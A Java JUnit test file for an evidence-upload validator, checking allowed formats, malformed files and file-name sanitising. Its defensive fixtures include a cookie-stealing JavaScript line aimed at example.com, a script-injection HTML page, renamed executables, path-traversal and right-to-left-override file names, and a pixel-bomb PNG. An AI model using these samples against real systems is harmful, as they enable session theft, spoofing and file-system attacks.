package works.incentives.domain.evidence;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import works.incentives.domain.shared.DomainRuleViolation;
import works.incentives.domain.shared.Rule;

import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Map;
import java.util.stream.Stream;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static works.incentives.domain.evidence.EvidenceFiles.compoundFile;
import static works.incentives.domain.evidence.EvidenceFiles.docx;
import static works.incentives.domain.evidence.EvidenceFiles.image;
import static works.incentives.domain.evidence.EvidenceFiles.pdf;
import static works.incentives.domain.evidence.EvidenceFiles.pptx;
import static works.incentives.domain.evidence.EvidenceFiles.text;
import static works.incentives.domain.evidence.EvidenceFiles.truncated;
import static works.incentives.domain.evidence.EvidenceFiles.xlsx;

/** The evidence upload rules of DOMAIN.md "Files": a catalogue of good and bad uploads. */
class EvidenceFileTest {

    static final long LIMIT = 1_000_000;

    static Stream<Arguments> everyAllowedKind() {
        return Stream.of(
                Arguments.of("invoice.pdf", pdf(), "application/pdf"),
                Arguments.of("ad.PNG", image("png"), "image/png"),
                Arguments.of("booth.jpg", image("jpeg"), "image/jpeg"),
                Arguments.of("booth.jpeg", image("jpeg"), "image/jpeg"),
                Arguments.of("banner.gif", image("gif"), "image/gif"),
                Arguments.of("scan.tif", image("tiff"), "image/tiff"),
                Arguments.of("scan.tiff", image("tiff"), "image/tiff"),
                Arguments.of("agenda.doc", compoundFile("WordDocument", "1Table"), "application/msword"),
                Arguments.of("leads.xls", compoundFile("Workbook"), "application/vnd.ms-excel"),
                Arguments.of("pitch.ppt", compoundFile("PowerPoint Document", "Current User"), "application/vnd.ms-powerpoint"),
                Arguments.of("invitation.msg", compoundFile("__properties_version1.0", "__substg1.0_0037001F"),
                        "application/vnd.ms-outlook"),
                Arguments.of("agenda.docx", docx(), EvidenceFormat.DOCX.contentType()),
                Arguments.of("leads.xlsx", xlsx(), EvidenceFormat.XLSX.contentType()),
                Arguments.of("pitch.pptx", pptx(), EvidenceFormat.PPTX.contentType()),
                Arguments.of("leads.csv", text("name,email,城市\nAnn,ann@example.com,臺北\n"), "text/csv"),
                Arguments.of("mail.eml", text("From: ann@example.com\r\nTo: rita@example.com\r\nSubject: Invitation\r\n"
                        + "Date: Mon, 1 Feb 2027 09:00:00 +0000\r\n\r\nSee you at the bootcamp.\r\n"), "message/rfc822"));
    }

    @ParameterizedTest(name = "{0} is accepted as {2}")
    @MethodSource("everyAllowedKind")
    void everyAllowedKindIsAcceptedWithTheContentTypeOfItsContent(String name, byte[] content, String contentType) {
        EvidenceFile file = EvidenceFile.inspect(name, content, LIMIT);
        assertEquals(contentType, file.contentType());
        assertEquals(name, file.fileName());
        assertEquals(64, file.sha256().length());
        assertTrue(Arrays.equals(content, file.content()));
    }

    @Test
    void theSha256IsTheContentsDigest() throws Exception {
        byte[] csv = text("a,b\n");
        String expected = java.util.HexFormat.of().formatHex(java.security.MessageDigest.getInstance("SHA-256").digest(csv));
        assertEquals(expected, EvidenceFile.inspect("a.csv", csv, LIMIT).sha256());
    }

    static Stream<Arguments> badUploads() {
        byte[] pdf = pdf();
        byte[] png = image("png");
        byte[] jpeg = image("jpeg");
        byte[] exe = new byte[256];
        exe[0] = 'M';
        exe[1] = 'Z';
        byte[] elf = new byte[64];
        System.arraycopy(new byte[]{0x7F, 'E', 'L', 'F', 2, 1, 1, 0}, 0, elf, 0, 8);
        elf[16] = 2;
        byte[] html = text("<!DOCTYPE html>\n<html><head><title>Win a prize</title></head><body><script>alert(1)</script></body></html>\n");
        return Stream.of(
                Arguments.of("empty file", "empty.pdf", new byte[0], Rule.EVIDENCE_EMPTY),
                Arguments.of("over the limit", "huge.csv", new byte[(int) LIMIT + 1], Rule.EVIDENCE_TOO_LARGE),
                Arguments.of("Windows executable renamed .pdf", "invoice.pdf", exe, Rule.EVIDENCE_MISLABELLED),
                Arguments.of("Linux executable renamed .pdf", "invoice.pdf", elf, Rule.EVIDENCE_MISLABELLED),
                Arguments.of("HTML renamed .png", "screenshot.png", html, Rule.EVIDENCE_MISLABELLED),
                Arguments.of("PNG named .pdf", "invoice.pdf", png, Rule.EVIDENCE_MISLABELLED),
                Arguments.of("PDF named .txt", "invoice.txt", pdf, Rule.EVIDENCE_MISLABELLED),
                Arguments.of("PDF header, garbage body", "invoice.pdf",
                        text("%PDF-1.7\n" + "x".repeat(2_000) + "\n%%EOF\n"), Rule.EVIDENCE_MALFORMED),
                Arguments.of("PDF truncated (no %%EOF)", "invoice.pdf", truncated(pdf, pdf.length / 2), Rule.EVIDENCE_MALFORMED),
                Arguments.of("PNG truncated", "ad.png", truncated(png, png.length / 2), Rule.EVIDENCE_MALFORMED),
                Arguments.of("PNG with a damaged body but its IEND", "ad.png", damagedInTheMiddle(png), Rule.EVIDENCE_MALFORMED),
                Arguments.of("JPEG truncated", "booth.jpg", truncated(jpeg, jpeg.length / 2), Rule.EVIDENCE_MALFORMED),
                Arguments.of("PNG claiming 100000 × 100000 pixels", "bomb.png",
                        EvidenceFiles.pngClaiming(100_000, 100_000), Rule.EVIDENCE_IMAGE_TOO_BIG),
                Arguments.of("JavaScript", "tracker.js", text("document.location='https://example.com/'+document.cookie;\n"),
                        Rule.EVIDENCE_TYPE_NOT_ALLOWED),
                Arguments.of("executable", "setup.exe", exe, Rule.EVIDENCE_TYPE_NOT_ALLOWED),
                Arguments.of("plain text", "notes.txt", text("call Ann back\n"), Rule.EVIDENCE_TYPE_NOT_ALLOWED),
                Arguments.of("no extension, not an allowed kind", "README", text("hello\n"), Rule.EVIDENCE_TYPE_NOT_ALLOWED),
                Arguments.of("ZIP that is not an Office document named .docx", "agenda.docx",
                        EvidenceFiles.zip(Map.of("agenda.txt", "nothing Office here")), Rule.EVIDENCE_MISLABELLED),
                Arguments.of("macro-enabled Word document named .docx", "agenda.docx", EvidenceFiles.ooxml("word/document.xml",
                        "application/vnd.ms-word.document.macroEnabled.main+xml", "<w:document/>"), Rule.EVIDENCE_MISLABELLED),
                Arguments.of("XLSX named .docx", "agenda.docx", xlsx(), Rule.EVIDENCE_MISLABELLED),
                Arguments.of("DOCX truncated", "agenda.docx", truncated(docx(), docx().length - 30), Rule.EVIDENCE_MALFORMED),
                Arguments.of("XLS named .doc", "agenda.doc", compoundFile("Workbook"), Rule.EVIDENCE_MISLABELLED),
                Arguments.of("OLE2 with a broken directory", "agenda.doc",
                        truncated(compoundFile("WordDocument"), 1024), Rule.EVIDENCE_MALFORMED),
                Arguments.of("CSV in Latin-1", "leads.csv", "name,city\nRené,Zürich\n".getBytes(StandardCharsets.ISO_8859_1),
                        Rule.EVIDENCE_MALFORMED),
                Arguments.of("CSV with a NUL byte", "leads.csv", text("name,city\nAnn\0,Taipei\n"), Rule.EVIDENCE_MISLABELLED));
    }

    static byte[] damagedInTheMiddle(byte[] content) {
        byte[] damaged = content.clone();
        for (int i = 60; i < damaged.length - 20; i++) {
            damaged[i] = (byte) (i * 31);
        }
        return damaged;
    }

    @ParameterizedTest(name = "{0}: {3}")
    @MethodSource("badUploads")
    void badUploadsAreRefusedWithARuleThatNamesTheFile(String what, String name, byte[] content, Rule rule) {
        DomainRuleViolation refused = assertThrows(DomainRuleViolation.class,
                () -> EvidenceFile.inspect(name, content, LIMIT), what);
        assertEquals(rule, refused.rule(), what + ": " + refused.getMessage());
        assertTrue(refused.getMessage().contains("\"" + name + "\""), refused.getMessage());
    }

    @Test
    void aMislabelledFileIsToldWhatItReallyContains() {
        byte[] exe = new byte[256];
        exe[0] = 'M';
        exe[1] = 'Z';
        assertEquals("The file \"invoice.pdf\" is named like a PDF file but contains an executable program.",
                assertThrows(DomainRuleViolation.class, () -> EvidenceFile.inspect("invoice.pdf", exe, LIMIT)).getMessage());
        assertEquals("The file \"ad.pdf\" is named like a PDF file but contains a PNG image.",
                assertThrows(DomainRuleViolation.class, () -> EvidenceFile.inspect("ad.pdf", image("png"), LIMIT)).getMessage());
        assertTrue(assertThrows(DomainRuleViolation.class, () -> EvidenceFile.inspect("shot.png",
                text("<html><body>hi</body></html>"), LIMIT)).getMessage().endsWith("contains an HTML page."));
        assertEquals("The file \"invoice.pdf\" is damaged or incomplete: it cannot be opened as a PDF document.",
                assertThrows(DomainRuleViolation.class, () -> EvidenceFile.inspect("invoice.pdf",
                        truncated(pdf(), 200), LIMIT)).getMessage());
    }

    @Test
    void aNameWithPathsAndControlCharactersIsAcceptedButSanitised() {
        EvidenceFile file = EvidenceFile.inspect("C:\\Users\\ann/../..\\evil/\u202Egpj.\r\n報告\u0000 \t 2027  <Q1>?.pdf",
                pdf(), LIMIT);
        assertEquals("gpj.報告 2027 Q1.pdf", file.fileName());
        assertEquals("application/pdf", file.contentType());
    }

    @Test
    void aVeryLongNameIsCutTo120CharactersKeepingTheExtension() {
        String name = EvidenceFile.inspect("活動".repeat(40) + "x".repeat(200) + ".xlsx", xlsx(), LIMIT).fileName();
        assertEquals(120, name.codePointCount(0, name.length()));
        assertTrue(name.startsWith("活動活動"), name);
        assertTrue(name.endsWith("x.xlsx"), name);
    }

    @Test
    void aNameWithoutExtensionGetsTheOneOfItsContent() {
        assertEquals("scan.pdf", EvidenceFile.inspect("scan", pdf(), LIMIT).fileName());
        assertEquals("document.png", EvidenceFile.inspect("\u202E", image("png"), LIMIT).fileName());
    }

    @Test
    void fileNamesAreSanitised() {
        assertEquals("invoice.pdf", EvidenceFile.sanitiseFileName("/etc/passwd/../invoice.pdf"));
        assertEquals("invoice.pdf", EvidenceFile.sanitiseFileName("..\\..\\invoice.pdf"));
        assertEquals("htaccess.pdf", EvidenceFile.sanitiseFileName("...htaccess.pdf"));
        assertEquals("document.pdf", EvidenceFile.sanitiseFileName("..pdf"));
        assertEquals("document.pdf", EvidenceFile.sanitiseFileName("  .pdf"));
        assertEquals("document", EvidenceFile.sanitiseFileName(null));
        assertEquals("a b c.csv", EvidenceFile.sanitiseFileName("a\u00A0\u3000b\u2003\u2003c.csv"));
        assertEquals("evilexe.pdf", EvidenceFile.sanitiseFileName("evil\u202Eexe\u2066\u2069\u200B.pdf"));
        assertEquals("ab.png", EvidenceFile.sanitiseFileName("a<>:\"|?*b.png"));
        assertEquals("_CON.pdf", EvidenceFile.sanitiseFileName("CON.pdf"));
        assertEquals("季度報告 第一季.docx", EvidenceFile.sanitiseFileName("季度報告 第一季.docx"));
        assertEquals("report.final", EvidenceFile.sanitiseFileName("report.final."));
        String longName = EvidenceFile.sanitiseFileName("a".repeat(300) + ".pdf");
        assertEquals(120, longName.length());
        assertTrue(longName.endsWith("a.pdf"));
    }

    @Test
    void theAllowListNamesEveryAcceptedExtension() {
        assertEquals(java.util.List.of(".pdf", ".png", ".jpg", ".jpeg", ".gif", ".tif", ".tiff", ".doc", ".xls", ".ppt",
                ".msg", ".docx", ".xlsx", ".pptx", ".csv", ".eml"), EvidenceFormat.allowedExtensions());
    }
}
